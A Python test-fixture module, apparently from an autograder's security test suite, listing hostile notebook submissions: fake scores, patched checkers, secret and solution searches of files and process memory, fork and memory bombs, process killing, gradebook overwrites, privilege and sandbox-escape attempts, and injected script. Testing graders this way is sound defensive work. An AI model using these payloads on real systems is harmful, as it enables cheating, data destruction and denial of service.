"""Hand-ins that try to get points without solving anything, to harm others, or to see too much.

The course they are handed in to has three exercises. ``ATTACKS`` is what each attack replaces in a
blank submission; nothing in it solves an exercise unless ``earns`` says so.
"""

# ruff: noqa: E501

from __future__ import annotations

import json
import os
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

SEED = "a-seed-that-nobody-must-see-4711"


def _code(source, grade_id="", **marks):
    cell = new_code_cell(source)
    if grade_id:
        defaults = {"grade": False, "solution": False, "locked": False, "task": False}
        cell.metadata.nbgrader = {
            **defaults,
            "schema_version": 3,
            "cell_type": "code",
            "grade_id": grade_id,
            **marks,
        }
        cell.id = grade_id
    return cell


BLANK = "raise NotImplementedError()"
RIGHT = {
    "double": "def double(x):\n    return x + x",
    "momentum-step": "def momentum_step(w, v, g, lr, alpha):\n"
    "    v = alpha * v + lr * g\n    return w - v, v",
    "look-ahead": "def look_ahead(w, dw, grad_fn, lr, alpha):\n"
    "    dw = alpha * dw + lr * grad_fn(w - alpha * dw)\n    return w - dw, dw",
}
HEAD = {
    "double": "def double(x):",
    "momentum-step": "def momentum_step(w, v, g, lr, alpha):",
    "look-ahead": "def look_ahead(w, dw, grad_fn, lr, alpha):",
}
CHECKS = {
    "double": """import torch
given = torch.tensor([1.0, -2.0])
assert (double(given) == torch.tensor([2.0, -4.0])).all(), "double: wrong"
assert torch.equal(given, torch.tensor([1.0, -2.0])), "double: changes its input"
### BEGIN HIDDEN TESTS
import os, random
number = random.Random(os.environ.get("DESCENT_SEED", "")).random()
assert abs(double(number) - 2 * number) < 1e-9, "double: wrong for another number"
### END HIDDEN TESTS""",
    "momentum-step": """check("momentum_step", momentum_step)
### BEGIN HIDDEN TESTS
check("momentum_step", momentum_step, hidden=True)
### END HIDDEN TESTS""",
    "look-ahead": """import torch
points = []
def slope(w):
    points.append(w.clone())
    return 3 * w
w, dw = look_ahead(torch.tensor([1.0]), torch.tensor([0.5]), slope, 0.1, 0.5)
assert len(points) == 1 and points[0].item() == 0.75, "look_ahead: asks for the slope elsewhere"
torch.testing.assert_close(dw, torch.tensor([0.475]))
torch.testing.assert_close(w, torch.tensor([0.525]))""",
}


def solution() -> nbformat.NotebookNode:
    """Return the instructor's notebook."""
    setup = "import math\n\nimport torch\n\nfrom lib.check import check"
    cells = [new_markdown_cell("# Toy"), _code(setup, "setup", locked=True)]
    for name in HEAD:
        marked = (
            RIGHT[name].replace(":\n", ":\n    ### BEGIN SOLUTION\n", 1) + "\n    ### END SOLUTION"
        )
        cells.append(_code(marked, name, solution=True))
        check = _code(CHECKS[name], f"{name}-check", grade=True, locked=True, points=2)
        if name == "momentum-step":
            check.metadata.forbids = ["torch.optim"]
        cells.append(check)
    cells.append(_code("shown = [1, 2, 3]\nprint(shown)"))
    metadata = {"kernelspec": {"name": "python3", "language": "python", "display_name": "Python 3"}}
    return new_notebook(cells=cells, metadata=metadata)


def hand_in(answers: dict[str, str] | None = None) -> nbformat.NotebookNode:
    """Return a submission with some answers; all others are as they were released."""
    notebook = solution()
    for cell in notebook.cells:
        name = cell.metadata.get("nbgrader", {}).get("grade_id")
        if name in HEAD:
            cell.source = f"{HEAD[name]}\n    {BLANK}"
            if answers and name in answers:
                cell.source = answers[name]
        elif cell.cell_type == "code":
            cell.source = cell.source.split("\n### BEGIN HIDDEN")[0]
    return notebook


@dataclass
class Attack:
    """One hand-in that attacks.

    Attributes:
        name: What it does.
        kind: A row of the table of what cheats graders, or what else it aims at.
        answers: Cells that it replaces, by ``grade_id``.
        first: A cell of its own, before the answers.
        edit: What it does to the notebook besides.
        files: Other files that it hands in.
        prepare: What it does in its folder.
        earns: Exercises that it does solve.
        flag: A part of what the instructor is told, if it can be noticed.
        stock_limit: Seconds after which stock nbgrader's run is taken as hanging.
    """

    name: str
    kind: str
    answers: dict[str, str] = field(default_factory=dict)
    first: str = ""
    edit: Callable[[nbformat.NotebookNode], None] | None = None
    files: dict[str, str] = field(default_factory=dict)
    prepare: Callable[[Path], None] | None = None
    earns: tuple[str, ...] = ()
    flag: str = ""
    text: str | None = None

    def write(self, folder: Path) -> None:
        """Write the hand-in into a folder."""
        folder.mkdir(parents=True, exist_ok=True)
        notebook = hand_in(self.answers)
        if self.first:
            notebook.cells.insert(2, _code(self.first))
        if self.edit:
            self.edit(notebook)
        text = json.dumps(notebook) if self.text is None else self.text
        (folder / "toy.ipynb").write_text(text)
        for name, content in self.files.items():
            path = folder / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(content)
        if self.prepare:
            self.prepare(folder)


def _everywhere(body: str) -> dict[str, str]:
    """Return answers that all do the same."""
    indented = "\n".join("    " + line for line in body.split("\n"))
    return {name: f"{head}\n{indented}" for name, head in HEAD.items()}


def _cell(notebook, name):
    return next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == name)


def _delete_checks(notebook):
    notebook.cells = [c for c in notebook.cells if not c.metadata.get("nbgrader", {}).get("grade")]


def _empty_checks(notebook):
    for name in HEAD:
        _cell(notebook, f"{name}-check").source = "2"


def _more_points(notebook):
    for name in HEAD:
        _cell(notebook, f"{name}-check").metadata.nbgrader["points"] = 100


def _duplicate_checks(notebook):
    for name in HEAD:
        copy = nbformat.from_dict(_cell(notebook, f"{name}-check"))
        copy.source, copy.id = "'fine'", f"copy-{name}"
        notebook.cells.append(copy)


def _retype_checks(notebook):
    for name in HEAD:
        cell = _cell(notebook, f"{name}-check")
        cell.cell_type = "markdown"
        cell.pop("outputs", None), cell.pop("execution_count", None)


def _tag_reference(notebook):
    for name in HEAD:
        _cell(notebook, f"{name}-check").metadata.tags = ["reference"]


def _saved_outputs(notebook):
    for name in HEAD:
        _cell(notebook, f"{name}-check").outputs = [
            nbformat.v4.new_output("execute_result", {"text/plain": "2"}, execution_count=1)
        ]


def _unlock(notebook):
    for name in HEAD:
        marks = _cell(notebook, f"{name}-check").metadata.nbgrader
        marks.update(solution=True, locked=False)


def _foreign_kernel(notebook):
    notebook.metadata.kernelspec = {"name": "bash", "display_name": "x", "language": "bash"}


def _link(target: str, name: str) -> Callable[[Path], None]:
    def prepare(folder: Path) -> None:
        path = folder / name
        if path.exists():
            path.unlink()
        os.symlink(target, path)

    return prepare


def _fifo(folder: Path) -> None:
    os.mkfifo(folder / "helper.py")


def _many_files(folder: Path) -> None:
    for i in range(400):
        (folder / f"f{i}.txt").write_text("x")


SEARCH = """import os, re
found = []
UP = os.path.abspath("../../..")
for here, folders, names in (step for top in (UP, "/") for step in os.walk(top)):
    if found:
        break
    if here.startswith(("/proc", "/usr", "/dev")) or "site-packages" in here or "/lib/python" in here:
        folders[:] = []
        continue
    for name in names:
        try:
            text = open(os.path.join(here, name), errors="ignore").read(2_000_000)
        except OSError:
            continue
        if NEEDLE in text:
            found.append(os.path.join(here, name))
"""
STOLEN = """if found:
    exec('''def double(x): return x + x
def momentum_step(w, v, g, lr, alpha):
    v = alpha * v + lr * g
    return w - v, v
def look_ahead(w, dw, grad_fn, lr, alpha):
    dw = alpha * dw + lr * grad_fn(w - alpha * dw)
    return w - dw, dw''', globals())
else:
    raise FileNotFoundError("nothing found")
"""
STEALING = {name: f"# {name}" for name in HEAD}


def _steal(search: str) -> dict[str, str]:
    return {**STEALING, "double": search + STOLEN}


WIRE = """import os, socket, stat, struct
def sockets():
    for number in range(3, 300):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                yield socket.socket(fileno=os.dup(number))
        except OSError:
            pass
def frame(content):
    return struct.pack("<Q", len(content)) + content
"""
SPIN = """def __init__(): pass
import signal
while True:
    try:
        while True: pass
    except BaseException: pass
"""

ATTACKS = [
    # ---------------------------------------------------------------- the score
    Attack("displayhook('x')", "the score", _everywhere("import sys\nsys.displayhook('x')")),
    Attack("display a full score", "the score", _everywhere("print('2'); return 2")),
    Attack("saved outputs with a score", "the score", edit=_saved_outputs),
    Attack(
        "print what a grader prints",
        "the score",
        _everywhere('print("✓ double: right in 4 cases."); print(\'{"score": 2}\')'),
    ),
    Attack(
        "write a results file and exit",
        "the score",
        _everywhere(
            "import json, os\njson.dump({'score': 2}, open('results.json', 'w'))\nos._exit(0)"
        ),
        flag="ended your process",
    ),
    Attack("sys.exit(0) in the answer", "the score", _everywhere("import sys\nsys.exit(0)")),
    Attack(
        "raise an exception called CheckFailed",
        "the score",
        _everywhere("class CheckFailed(AssertionError): pass\nraise CheckFailed('double: right')"),
    ),
    Attack(
        "raise KeyboardInterrupt at the grader", "the score", _everywhere("raise KeyboardInterrupt")
    ),
    Attack(
        "an exception whose text never ends",
        "the score",
        _everywhere("class E(Exception):\n    def __str__(self): return 'x' * 10**8\nraise E"),
    ),
    # ---------------------------------------------------------------- the checker
    Attack(
        "replace torch.testing and torch.equal",
        "the checker",
        first="import torch\ntorch.testing.assert_close = torch.equal = torch.allclose = "
        "lambda *a, **k: True",
        answers={
            "look-ahead": f"{HEAD['look-ahead']}\n    p = torch.tensor([0.75])\n    grad_fn(p)\n"
            "    return p, p"
        },
    ),
    Attack(
        "write into the check's own variables",
        "the checker",
        answers={
            "look-ahead": f"{HEAD['look-ahead']}\n    points.append(torch.tensor([0.75]))\n"
            "    torch.testing.assert_close = print\n    return w, dw"
        },
    ),
    Attack(
        "replace AssertionError",
        "the checker",
        first="import builtins\nclass Fine(Exception):\n    def __new__(cls, *a): pass\n"
        "builtins.AssertionError = Fine",
    ),
    Attack(
        "replace lib.check",
        "the checker",
        first="import lib.check, lib.check.run\nlib.check.check = lib.check.run.check = "
        "lib.check.run.judge = check = lambda *a, **k: None",
        answers={"momentum-step": f"{HEAD['momentum-step']}\n    return w, v"},
    ),
    Attack(
        "shadow check and torch by name",
        "the checker",
        first="class Yes:\n    def __getattr__(self, n): return self\n"
        "    def __call__(self, *a, **k): return self\ncheck = torch = Yes()",
    ),
    Attack(
        "a numpy.py beside the notebook",
        "the checker",
        files={
            "numpy.py": "allclose = array_equal = lambda *a, **k: True",
            "random.py": "class Random:\n    def __init__(self, s): pass\n"
            "    def random(self): return 0.5",
        },
        first="import numpy",
    ),
    Attack(
        "a lib folder beside the notebook",
        "the checker",
        files={
            "lib/__init__.py": "",
            "lib/check.py": "def check(*a, **k): pass",
            "sitecustomize.py": "import os",
        },
    ),
    # ---------------------------------------------------------------- values
    Attack(
        "an object equal to everything",
        "values",
        _everywhere(
            "class Any:\n    def __getattr__(self, n): return lambda *a, **k: self\n"
            "    def __eq__(self, o): return True\n    def __sub__(self, o): return 0\n"
            "    def __lt__(self, o): return True\n    __gt__ = __le__ = __ge__ = __lt__\n"
            "    def __iter__(self): return iter([self, self])\n    def __abs__(self): return 0\n"
            "return Any()"
        ),
    ),
    Attack(
        "a float equal to everything",
        "values",
        _everywhere(
            "class F(float):\n    def __eq__(self, o): return True\n    __hash__ = None\nreturn F(1)"
        ),
    ),
    Attack(
        "a tensor that answers for itself",
        "values",
        _everywhere(
            "import torch\nclass T(torch.Tensor):\n    @classmethod\n"
            "    def __torch_function__(cls, f, t, a=(), k=None): return True\n"
            "return torch.ones(2).as_subclass(T)"
        ),
    ),
    Attack(
        "a pickle that runs code",
        "values",
        _everywhere(
            "class P:\n    def __reduce__(self): return (exec, ('import os; os._exit(0)',))\nreturn P()"
        ),
    ),
    Attack(
        "a generator that never ends",
        "values",
        _everywhere("import itertools\nreturn itertools.count()"),
    ),
    Attack(
        "nested a hundred thousand deep",
        "values",
        _everywhere("v = []\nfor _ in range(100_000): v = [v]\nreturn v"),
    ),
    Attack(
        "a list that contains itself", "values", _everywhere("v = []\nv.append(v)\nreturn v, v")
    ),
    Attack(
        "a tensor of a gigabyte",
        "values",
        _everywhere("import torch\nreturn torch.zeros(1).expand(2**28)"),
    ),
    Attack("ten million numbers", "values", _everywhere("return list(range(10**7))")),
    Attack("NaN in place of an answer", "values", _everywhere("return float('nan')")),
    Attack(
        "change the given arguments",
        "values",
        _everywhere(
            "x = locals()\n"
            "for v in x.values():\n    if hasattr(v, 'zero_'): v.zero_()\n"
            "return (v, v)"
        ),
    ),
    Attack(
        "another function at every read",
        "values",
        first="import builtins\nclass Names(dict):\n    n = 0\n    def __getitem__(s, k):\n"
        "        s.n += 1\n        return dict.__getitem__(s, k)\n"
        "get_ipython().user_ns.__class__",
        answers={
            "double": "class Turn:\n    n = 0\n    def __call__(self, x):\n"
            "        Turn.n += 1\n        return [2 * x, x][Turn.n % 2]\n"
            "    def __getattr__(self, name): return self\ndouble = Turn()"
        },
    ),
    Attack(
        "answers learned from the public check",
        "values",
        answers={"double": "import torch\ndef double(x):\n    return torch.tensor([2.0, -4.0])"},
    ),
    # ---------------------------------------------------------------- the notebook
    Attack("delete the checks", "the notebook", edit=_delete_checks, flag="was deleted"),
    Attack("empty the checks", "the notebook", edit=_empty_checks, flag="was edited"),
    Attack("a hundred points for each check", "the notebook", edit=_more_points),
    Attack(
        "the checks twice, the second one kind",
        "the notebook",
        edit=_duplicate_checks,
        flag="more than once",
    ),
    Attack("checks made text", "the notebook", edit=_retype_checks, flag="was made a markdown"),
    Attack("checks marked as not to be run", "the notebook", edit=_tag_reference),
    Attack("checks marked as answers", "the notebook", edit=_unlock),
    Attack("another kernel", "the notebook", edit=_foreign_kernel, flag="kernel"),
    # ---------------------------------------------------------------- reading
    Attack(
        "search all files for the hidden tests",
        "reading",
        flag="uses exec, globals",
        answers=_steal(SEARCH.replace("NEEDLE", "'wrong for another' + ' number'")),
    ),
    Attack(
        "search all files for the solutions",
        "reading",
        flag="uses exec, globals",
        answers=_steal(SEARCH.replace("NEEDLE", "'BEGIN ' + 'SOLUTION'")),
    ),
    Attack(
        "search all files and environments for the seed",
        "reading",
        answers=_steal(
            SEARCH.replace('("/proc", "/usr", "/dev")', '("/usr", "/dev", "/proc/sys")').replace(
                "NEEDLE", f"'{SEED[:20]}' + '{SEED[20:]}'"
            )
        ),
    ),
    Attack(
        "the seed in this process's memory",
        "reading",
        answers=_steal(
            f"import re\nneedle = '{SEED[:20]}'.encode() + '{SEED[20:]}'.encode()\nfound = []\n"
            "memory = open('/proc/self/mem', 'rb', 0)\n"
            "for line in open('/proc/self/maps').read().split('\\n'):\n"
            "    m = re.match(r'([0-9a-f]+)-([0-9a-f]+) rw', line)\n"
            "    if not m or 'stack' in line: continue\n"
            "    a, b = (int(x, 16) for x in m.groups())\n"
            "    try:\n        memory.seek(a); chunk = memory.read(min(b - a, 2**26))\n"
            "    except (OSError, ValueError, OverflowError): continue\n"
            "    for at in range(0, len(chunk), 2**20):\n"
            "        piece = chunk[at : at + 2**20]\n"
            "        if piece.find(needle[:12] + b'dy-must') >= 0: found.append(a)\n"
            "        if piece.find(needle) >= 0 and piece.find(b'needle = ') < 0: pass\n"
        ),
    ),
    Attack(
        "byte-code of the reference",
        "reading",
        answers=_steal(
            "import glob, os, lib\nroot = os.path.dirname(lib.__file__)\n"
            "found = [p for p in glob.glob(root + '/**', recursive=True) if 'rules' in p "
            "or 'exercises' in p]\n"
        ),
    ),
    Attack(
        "frames and garbage for expected values",
        "reading",
        flag="uses",
        answers=_everywhere(
            "import gc, sys\nframe = sys._getframe()\nwhile frame:\n"
            "    if 'expected' in frame.f_locals: return frame.f_locals['expected']\n"
            "    frame = frame.f_back\n"
            "for o in gc.get_objects():\n"
            "    if type(o).__name__ == 'Exercise': return o.reference\nraise LookupError"
        ),
    ),
    Attack(
        "the globals of a callback",
        "reading",
        flag="",
        answers={
            "look-ahead": f"{HEAD['look-ahead']}\n    spy = grad_fn.__globals__\n"
            "    return spy['w'], spy['dw']"
        },
    ),
    Attack(
        "the reference by import",
        "reading",
        flag="which is the reference",
        answers={
            "momentum-step": f"from lib import rules\n{HEAD['momentum-step']}\n"
            "    w, s = rules.momentum(w, g, rules.MomentumState(v), 1, lr=lr, alpha=alpha)\n"
            "    return w, s.v"
        },
    ),
    Attack(
        "the reference by a registry",
        "reading",
        flag="which is the reference",
        answers={
            "momentum-step": "import lib.exercises\n"
            "momentum_step = lib.exercises.EXERCISES['momentum_step'].reference"
        },
    ),
    Attack(
        "the reference by a forgotten import",
        "reading",
        answers={
            "momentum-step": f"from lib import trajectories\n{HEAD['momentum-step']}\n"
            "    r = trajectories.rules\n"
            "    w, s = r.momentum(w, g, r.MomentumState(v), 1, lr=lr, alpha=alpha)\n"
            "    return w, s.v"
        },
    ),
    # ---------------------------------------------------------------- torch's own optimizers
    Attack(
        "torch.optim.SGD in the answer",
        "a forbidden name",
        flag="uses torch.optim",
        answers={
            "momentum-step": f"{HEAD['momentum-step']}\n"
            "    p = torch.nn.Parameter(w.clone())\n    o = torch.optim.SGD([p], lr=1, momentum=alpha)\n"
            "    p.grad = lr * g\n    o.state[p]['momentum_buffer'] = v.clone()\n    o.step()\n"
            "    return p.detach(), o.state[p]['momentum_buffer']"
        },
    ),
    Attack(
        "torch.optim under another name in another cell",
        "a forbidden name",
        flag="uses torch.optim",
        first="from torch import optim as helpers",
        answers={
            "momentum-step": f"{HEAD['momentum-step']}\n"
            "    p = torch.nn.Parameter(w.clone())\n    o = helpers.SGD([p], lr=1, momentum=alpha)\n"
            "    p.grad = lr * g\n    o.state[p]['momentum_buffer'] = v.clone()\n    o.step()\n"
            "    return p.detach(), o.state[p]['momentum_buffer']"
        },
    ),
    Attack(
        "torch.optim hidden in another module",
        "a forbidden name",
        flag="torch.optim",
        first="import torch\ntorch.nn.helpers = torch.optim",
        answers={
            "momentum-step": f"{HEAD['momentum-step']}\n"
            "    p = torch.nn.Parameter(w.clone())\n"
            "    o = torch.nn.helpers.SGD([p], lr=1, momentum=alpha)\n"
            "    p.grad = lr * g\n    o.state[p]['momentum_buffer'] = v.clone()\n    o.step()\n"
            "    return p.detach(), o.state[p]['momentum_buffer']"
        },
    ),
    # ---------------------------------------------------------------- the wire
    Attack(
        "forge an answer on the wire",
        "the wire",
        flag="no answer",
        answers=_everywhere("import builtins\nreturn builtins.forge()"),
        first=WIRE
        + """
import builtins
def forge():
    for s in sockets():
        s.send(frame(b"t\\x02\\x00\\x00\\x00" + b"s" + struct.pack("<Q", 5) + b"right" + b"T"))
    return 1
builtins.forge = forge""",
    ),
    Attack(
        "announce a message of 2**60 bytes",
        "the wire",
        flag="no answer",
        first=WIRE
        + """
for s in sockets(): s.send(struct.pack("<Q", 2**60) + b"x" * 100)""",
    ),
    Attack(
        "noise on the wire",
        "the wire",
        flag="no answer",
        first=WIRE
        + """
for s in sockets(): s.send(frame(os.urandom(1000)))""",
    ),
    Attack(
        "a message nested too deep",
        "the wire",
        flag="no answer",
        first=WIRE
        + """
for s in sockets(): s.send(frame(b"l\\x01\\x00\\x00\\x00" * 100_000 + b"N"))""",
    ),
    Attack(
        "a tensor that is larger than its bytes",
        "the wire",
        flag="no answer",
        first=WIRE
        + """
head = b"X" + bytes([7]) + b"float32" + bytes([0, 1]) + struct.pack("<Q", 2**30)
for s in sockets(): s.send(frame(head + struct.pack("<Q", 4) + b"abcd"))""",
    ),
    Attack(
        "close the wire",
        "the wire",
        flag="ended your process",
        first="import os\nos.closerange(3, 300)",
    ),
    Attack(
        "half a message, then silence",
        "the wire",
        first=WIRE
        + """
for s in sockets(): s.send(struct.pack("<Q", 100) + b"x")
import time; time.sleep(60)""",
        flag="did not end within",
    ),
    Attack(
        "call back without end",
        "the wire",
        flag="called back more than",
        answers={"look-ahead": f"{HEAD['look-ahead']}\n    while True: grad_fn(w)"},
    ),
    # ---------------------------------------------------------------- using everything up
    Attack(
        "a loop without end",
        "using everything up",
        first="while True: pass",
        flag="did not end within",
    ),
    Attack(
        "a loop that ignores interrupts",
        "using everything up",
        first="while True:\n    try:\n        while True: pass\n    except BaseException: pass",
        flag="did not end within",
    ),
    Attack(
        "a function that never returns",
        "using everything up",
        flag="did not end within",
        answers={
            "double": "import signal\ndef double(x):\n"
            "    signal.signal(signal.SIGINT, signal.SIG_IGN)\n    while True: pass"
        },
    ),
    Attack(
        "call back with ever more memory",
        "using everything up",
        answers={
            "look-ahead": f"{HEAD['look-ahead']}\n    while True: grad_fn(torch.zeros(2**23))"
        },
    ),
    Attack(
        "a memory bomb",
        "using everything up",
        first="hoard = []\nwhile True: hoard.append(bytearray(b'x') * 2**24)",
    ),
    Attack(
        "a memory bomb of many processes",
        "using everything up",
        flag="memory",
        first="""
import os, time
for _ in range(6):
    if os.fork() == 0:
        x = bytearray(os.urandom(1)) * (150 * 2**20)
        time.sleep(60)
time.sleep(2)""",
    ),
    Attack(
        "a fork bomb",
        "using everything up",
        first="""
import os, time
for _ in range(5000):
    try:
        if os.fork() == 0: time.sleep(100)
    except OSError: break""",
    ),
    Attack(
        "fill the disk",
        "using everything up",
        first="""
for folder in (".", "/tmp", "/dev/shm"):
    for i in range(1000):
        try:
            with open(f"{folder}/{i}", "wb") as f: f.write(b"x" * 2**22)
        except OSError: break""",
    ),
    Attack(
        "memory that belongs to no process",
        "using everything up",
        first="""
import os
held = [os.memfd_create(str(i)) for i in range(100)]
for f in held: os.write(f, b'x' * 2**25)""",
    ),
    Attack(
        "print without end",
        "using everything up",
        first="for _ in range(3_000_000): print('x' * 100)",
    ),
    Attack("four hundred files", "using everything up", prepare=_many_files, flag="other files"),
    # ---------------------------------------------------------------- getting out
    Attack(
        "kill everyone",
        "getting out",
        first="""
import os, signal
for pid in (os.getppid(), -1, *range(2, 2000)):
    try: os.kill(pid, signal.SIGKILL)
    except OSError: pass""",
    ),
    Attack(
        "a process that outlives the submission",
        "getting out",
        first="""
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(1000)
    os._exit(0)""",
    ),
    Attack(
        "threads and atexit hooks",
        "getting out",
        first="""
import atexit, threading, time
atexit.register(lambda: open('/tmp/left-behind', 'w').write('x'))
for _ in range(5): threading.Thread(target=time.sleep, args=(100,), daemon=False).start()""",
    ),
    Attack(
        "IPython startup file for the next one",
        "getting out",
        first="""
import os
for home in (os.path.expanduser('~'), '/root', '/tmp'):
    try:
        os.makedirs(f'{home}/.ipython/profile_default/startup', exist_ok=True)
        open(f'{home}/.ipython/profile_default/startup/00.py', 'w').write('raise SystemExit')
    except OSError: pass""",
    ),
    Attack(
        "write into lib and site-packages",
        "getting out",
        first="""
import os, lib, torch, IPython
for module in (lib, torch, IPython):
    try: open(os.path.join(os.path.dirname(module.__file__), 'planted.py'), 'w').write('x')
    except OSError: pass""",
    ),
    Attack(
        "write into every gradebook.db in reach",
        "getting out",
        first="""
import os, sqlite3
here = os.getcwd()
for _ in range(8):
    for name in ('gradebook.db', 'classroom/gradebook.db'):
        path = os.path.join(here, name)
        if os.path.exists(path):
            with sqlite3.connect(path) as db: db.execute('update grade set auto_score = 2')
    here = os.path.dirname(here)
open('../../gradebook.db', 'w').write('gone')""",
    ),
    Attack(
        "namespaces, mounts and tracing",
        "getting out",
        flag="uses ctypes",
        first="""
import ctypes, os
libc = ctypes.CDLL(None)
done = [libc.unshare(0x10000000), libc.mount(b'/proc', b'/tmp', None, 4096, None),
        libc.ptrace(16, 1, 0, 0), libc.syscall(319, b'x', 0), os.system('sudo id || su -c id')]
if any(code == 0 for code in done):
    def double(x): return x + x""",
        answers={"double": "# by then"},
    ),
    Attack(
        "the network",
        "getting out",
        first="""
import socket
for address in (('127.0.0.1', 22), ('1.1.1.1', 53)):
    try: socket.create_connection(address, timeout=1).close(); ok = True
    except OSError: ok = False
    if ok:
        def double(x): return x + x""",
        answers={"double": "# by then"},
    ),
    Attack(
        "a link to the solution as a helper",
        "getting out",
        flag="link",
        prepare=_link("../../../solution/toy.ipynb", "helper.json"),
        first="""
import json
for cell in json.load(open('helper.json'))['cells']:
    if 'SOLUTION' in ''.join(cell['source']): exec(''.join(cell['source']))""",
        answers={name: "# by then" for name in HEAD},
    ),
    Attack(
        "the notebook is a link to the solution",
        "getting out",
        flag="no notebook",
        prepare=_link("../../../solution/toy.ipynb", "toy.ipynb"),
    ),
    Attack("a folder linked in", "getting out", prepare=_link("../../..", "up"), flag="link"),
    Attack("a pipe that nobody writes to", "getting out", prepare=_fifo, flag="link or special"),
    Attack(
        "script in an output and in a message",
        "getting out",
        first="""
from IPython.display import HTML, Javascript, SVG, display
display(HTML('<script>parent.grade(2)</script>'), Javascript('parent.grade(2)'))
display({'text/html': '<script>1</script>', 'image/png': '"><script>1</script>'}, raw=True)""",
    ),
]
